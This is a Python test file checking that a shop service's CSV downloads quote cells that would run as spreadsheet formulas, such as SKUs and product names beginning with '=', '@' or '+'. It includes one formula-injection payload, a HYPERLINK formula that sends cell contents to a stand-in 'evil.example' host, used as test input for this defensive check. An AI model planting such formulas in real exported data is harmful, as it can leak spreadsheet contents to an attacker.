"""CSV downloads open in spreadsheets: text Kulcs sent must not run there as a formula."""
from __future__ import annotations

import csv
import io
import json

from tests.conftest import ADMIN
from tests.http.helpers import basic, make_shop, settled
from tests.kulcs_docs import product_xml

KULCS = {**basic("bolt", "kulcs-jelszo"), "Content-Type": "text/xml"}
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


async def test_a_sku_that_reads_as_a_formula_is_quoted_and_numbers_stay_numbers(client):
    await make_shop(client, sync_type="full")
    rows = [{"termekkod": FORMULA, "ar": "100"}, {"termekkod": "@SUM(1)", "ar": "5"},
            {"termekkod": "KS-1", "ar": "0"}]
    assert (await client.post("/kulcs/bolt/products", data=product_xml(rows), headers=KULCS)).status == 200
    await settled(client)
    response = await client.get("/api/shops/bolt/price-list?as_of=2100-01-01T00:00:00Z&format=csv", headers=ADMIN)
    assert response.status == 200
    cells = {row["sku"]: row for row in csv.DictReader(io.StringIO(await response.text()))}
    assert set(cells) == {"'" + FORMULA, "'@SUM(1)", "KS-1"}
    assert cells["'" + FORMULA]["base_price"] == "100.00"


def test_negative_numbers_are_not_quoted():
    from ledger.http.csv_answers import _inert

    assert [_inert(v) for v in ("-2", "-10.50", "-", "+36301234567", "-1e3", None)] == [
        "-2", "-10.50", "'-", "'+36301234567", "'-1e3", ""]


async def test_a_products_field_history_downloads_as_csv_with_structured_values_as_json(client):
    await make_shop(client, sync_type="full")
    rows = [{"termekkod": "KS-1", "ar": "100", "nev": "=Fúró", "kep": "https://kep.example.hu/1.jpg"}]
    assert (await client.post("/kulcs/bolt/products", data=product_xml(rows), headers=KULCS)).status == 200
    rows[0]["ar"] = "120"
    assert (await client.post("/kulcs/bolt/products", data=product_xml(rows), headers=KULCS)).status == 200
    await settled(client)
    history = await (await client.get("/api/shops/bolt/products/KS-1/history", headers=ADMIN)).json()
    response = await client.get("/api/shops/bolt/products/KS-1/history?format=csv", headers=ADMIN)
    assert response.status == 200 and response.content_type == "text/csv"
    assert "KS-1-history.csv" in response.headers["Content-Disposition"]
    cells = list(csv.DictReader(io.StringIO(await response.text())))
    assert [(c["field"], c["new"]) for c in cells if c["field"] in ("base_price", "name")] == [
        ("base_price", "100.00"), ("name", "'=Fúró"), ("base_price", "120.00")]
    assert len(cells) == len(history)
    image = next(c for c in cells if c["field"] == "image")
    assert json.loads(image["new"])["value"] == "https://kep.example.hu/1.jpg"
